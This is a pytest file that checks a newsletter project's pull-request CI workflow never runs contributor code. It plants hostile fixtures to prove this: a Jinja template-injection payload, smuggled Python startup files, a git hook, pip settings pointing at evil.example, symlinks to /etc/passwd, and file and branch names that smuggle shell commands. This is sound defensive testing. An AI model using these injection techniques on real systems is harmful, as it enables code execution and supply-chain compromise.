"""check.yml, done step by step on pull requests: what a guest is told, and that nothing of a pull request is ever run."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from ..test_changed import git
from ..test_changed import keep as commit_all
from .repository import done, newsletter, pull
from .runner import Machine

QUAY, PLAIN = "2026-11-quay", "2026-12-plain"
CHECK, SHOW, STOP = (
    "Say what is to be mended",
    "Show each issue as readers would see it",
    "Stop here if something must be fixed",
)


@pytest.fixture
def hand_in(origin: Path, press: Path, tmp_path: Path) -> Callable[[Callable[[Path], None]], Machine]:
    return lambda change: done(pull(origin, tmp_path, change), tmp_path, press)


def write(path: Path, words: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(words, encoding="utf-8")


def add(root: Path, words: str, slug: str = PLAIN) -> None:
    path = root / "issues" / slug / ("10-only.md" if slug == PLAIN else "10-the-last-ferry.md")
    path.write_text(path.read_text(encoding="utf-8") + words, encoding="utf-8")


def findings(machine: Machine) -> Any:
    return json.loads((machine.temp / "findings/findings.json").read_text(encoding="utf-8"))


def test_a_pull_request_with_nothing_to_mend_passes_and_is_shown(hand_in) -> None:  # type: ignore[no-untyped-def]
    machine = hand_in(lambda root: add(root, "\nOne more word.\n"))
    assert machine.is_well, machine.printed()
    assert machine.ended[STOP] == "skipped"
    assert "::" not in machine.log[CHECK]
    assert f"{PLAIN}: nothing to mend" in machine.log[CHECK]
    assert (
        machine.summary
        == "<!-- edgepress:check -->\n## What edgepress says: nothing to mend\n\n---\n\nNext: `edgepress build`\n"
    )
    assert (findings(machine)["issues"], findings(machine)["findings"], findings(machine)["notes"]) == ([PLAIN], [], [])
    assert machine.kept["findings"] == ["findings.json"]
    assert_shown(machine, PLAIN)


def assert_shown(machine: Machine, *slugs: str) -> None:
    """Each issue has a page that a guest can open."""
    assert machine.kept["preview"] == [f"{slug}/preview.html" for slug in slugs], machine.log[SHOW]
    for slug in slugs:
        page = (machine.temp / "preview" / slug / "preview.html").read_text(encoding="utf-8")
        assert page.lstrip().lower().startswith("<!doctype html>")


def test_what_must_be_fixed_stands_beside_its_line_and_fails_after_everything_is_kept(hand_in) -> None:  # type: ignore[no-untyped-def]
    machine = hand_in(lambda root: add(root, "\n# Once more\n"))
    assert (machine.ended[STOP], machine.codes[STOP]) == ("failure", 1)
    assert machine.codes[CHECK] == 0
    assert f"::error title=Must fix (title-in-body),file=issues/{PLAIN}/10-only.md,line=" in machine.log[CHECK]
    assert machine.summary.startswith("<!-- edgepress:check -->\n## What edgepress says: 1 must fix\n")
    (found,) = findings(machine)["findings"]
    assert (found["code"], found["path"]) == ("title-in-body", f"issues/{PLAIN}/10-only.md")
    assert machine.kept["findings"] == ["findings.json"]
    assert_shown(machine, PLAIN)


def test_a_pull_request_that_touches_two_issues_and_the_code_is_told_so_everywhere(hand_in) -> None:  # type: ignore[no-untyped-def]
    def change(root: Path) -> None:
        add(root, "\nOne more word.\n")
        add(root, "\nOne more word.\n", QUAY)
        write(root / "edgepress/new.py", "")

    machine = hand_in(change)
    assert machine.is_well, machine.printed()
    two = f"This change touches 2 issues: {QUAY}, {PLAIN}. Is each of them meant?"
    out = "This change reaches outside issues/ and contributors/: edgepress/new.py. Is that meant?"
    assert [line for line in machine.log[CHECK].splitlines() if line.startswith("::warning")][:2] == [
        f"::warning title=Look again (outside-folder)::{two}",
        f"::warning title=Look again (outside-folder)::{out}",
    ]
    assert findings(machine)["notes"] == [{"code": "outside-folder", "message": words} for words in (two, out)]
    assert f"\n{two}\n" in machine.summary
    assert f"\n{out}\n" in machine.summary
    assert_shown(machine, QUAY, PLAIN)


def test_the_settings_and_the_theme_are_those_of_the_branch_that_it_goes_to(hand_in, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    trap = tmp_path / "pwned"

    def change(root: Path) -> None:
        settings = root / "pyproject.toml"
        settings.write_text(
            settings.read_text(encoding="utf-8").replace('title = "The Edge"', 'title = "Hacked"'), encoding="utf-8"
        )
        code = "{{ cycler.__init__.__globals__.os.system('touch %s') }}" % trap
        for path in (root / "templates").rglob("*.j2"):
            path.write_text(code + path.read_text(encoding="utf-8"), encoding="utf-8")
        write(root / "templates/lists/en.yaml", "house-words:\n  word: sentence\n")
        add(root, "\nOne more word.\n")

    machine = hand_in(change)
    assert machine.is_well, machine.printed()
    assert findings(machine)["findings"] == []
    (note,) = findings(machine)["notes"]
    assert note["code"] == "outside-folder"
    assert "pyproject.toml" in note["message"]
    assert "Hacked" not in (machine.workspace / "guest/pyproject.toml").read_text(encoding="utf-8")
    assert not (machine.workspace / "guest/templates/lists").exists()
    assert_shown(machine, PLAIN)
    assert [
        page for page in (machine.temp / "preview").rglob("*.html") if "Hacked" in page.read_text(encoding="utf-8")
    ] == []
    assert not trap.exists()


SMUGGLED = (
    "sitecustomize.py",
    "usercustomize.py",
    "conftest.py",
    "setup.py",
    "random.py",
    "click.py",
    "edgepress.py",
    "build.py",
)


def test_nothing_that_a_pull_request_brings_along_is_run(origin: Path, tmp_path: Path) -> None:
    trap = tmp_path / "pwned"
    code = f"import pathlib\npathlib.Path({str(trap)!r}).touch()\n"

    def change(root: Path) -> None:
        for folder in (root, root / "issues", root / "issues" / PLAIN, root / "contributors"):
            for name in SMUGGLED:
                write(folder / name, code)
        write(root / "edgepress/__init__.py", f'__version__ = "9"\n{code}')
        write(root / "Makefile", f"all:\n\ttouch {trap}\n")
        write(root / "pyproject.toml", '[build-system]\nrequires = []\nbuild-backend = "build"\nbackend-path = ["."]\n')
        write(root / "requirements.txt", "--extra-index-url https://evil.example/\nevil\n")
        write(root / "pip.conf", "[global]\nindex-url = https://evil.example/\n")
        write(root / ".gitattributes", "* filter=evil diff=evil\n")
        write(root / ".pre-commit-config.yaml", "repos: []\n")
        write(root / ".githooks/post-checkout", f"#!/bin/sh\ntouch {trap}\n")
        (root / ".githooks/post-checkout").chmod(0o755)
        (root / "issues" / PLAIN / "30-passwords.md").symlink_to("/etc/passwd")
        (root / "issues/2027-05-trap").symlink_to("/etc")
        write(root / f"issues/{PLAIN}/$(touch pwned).md", "No details.\n")
        write(root / "issues/$(touch pwned)/issue.md", f"---\ntitle: $(touch {trap})\n---\n`touch {trap}`\n")
        write(root / "issues/-rf/issue.md", "---\ntitle: A\n---\n")
        write(root / "issues/new\n::add-mask::line/issue.md", "---\ntitle: A\n---\n")

    asked = pull(origin, tmp_path, change, branch="$(touch${IFS}pwned)")
    machine = done(asked, tmp_path)
    assert machine.ended["Install the press"] == "success", machine.log
    assert (machine.ended[STOP], machine.codes[STOP]) == ("failure", 1), machine.printed()
    assert not trap.exists()
    assert [path for path in tmp_path.rglob("pwned") if "fork" not in path.parts] == []
    said = machine.printed()
    assert "root:" not in said  # of /etc/passwd
    assert not [
        line
        for line in said.splitlines()
        if line.startswith("::") and not line.startswith(("::error ", "::warning ", "::notice "))
    ]
    codes = {found["code"] for found in findings(machine)["findings"]}
    assert "link-outside" in codes
    assert set(machine.kept.get("preview", [])) <= {f"{PLAIN}/preview.html", "2027-05-trap/preview.html"}
    assert json.loads(subprocess.run(
        [str(machine.temp / "press/bin/python"), "-Ic", "import edgepress, json; print(json.dumps(edgepress.__file__))"],
        capture_output=True, text=True, check=True,
    ).stdout).startswith(str(machine.temp))  # fmt: skip


def test_a_folder_that_is_only_a_pointer_stops_the_check_with_a_sentence(hand_in) -> None:  # type: ignore[no-untyped-def]
    def change(root: Path) -> None:
        shutil.rmtree(root / "contributors")
        os.symlink("/etc", root / "contributors")

    machine = hand_in(change)
    assert "contributors is only a pointer to a folder elsewhere" in machine.log[CHECK]
    assert "::error title=Nothing could be checked::" in machine.log[CHECK]
    assert (machine.ended[STOP], machine.codes[STOP]) == ("failure", 2)
    assert machine.kept == {}


def test_a_branch_of_any_name_can_be_handed_in_to(press: Path, tmp_path: Path) -> None:
    base = "a$(touch${IFS}pwned)"
    asked = pull(newsletter(tmp_path, base), tmp_path, lambda root: add(root, "\nOne more word.\n"), base=base)
    machine = done(asked, tmp_path, press)
    assert machine.is_well, machine.printed()
    assert findings(machine)["issues"] == [PLAIN]
    assert list(tmp_path.rglob("pwned")) == []


def test_what_others_did_since_the_merge_was_made_is_no_part_of_the_change(press: Path, tmp_path: Path) -> None:
    origin, begun, others = newsletter(tmp_path), tmp_path / "begun", tmp_path / "others"
    begun.mkdir()
    asked = pull(origin, begun, lambda root: add(root, "\nOne more word.\n"))
    git(tmp_path, "clone", "--quiet", str(origin), str(others))
    add(others, "\nMeanwhile.\n", QUAY)
    commit_all(others)
    git(others, "push", "--quiet", str(origin), "HEAD:main")
    machine = done(asked, tmp_path, press)
    assert machine.is_well, machine.printed()
    assert findings(machine)["issues"] == [PLAIN]
    assert findings(machine)["notes"] == []
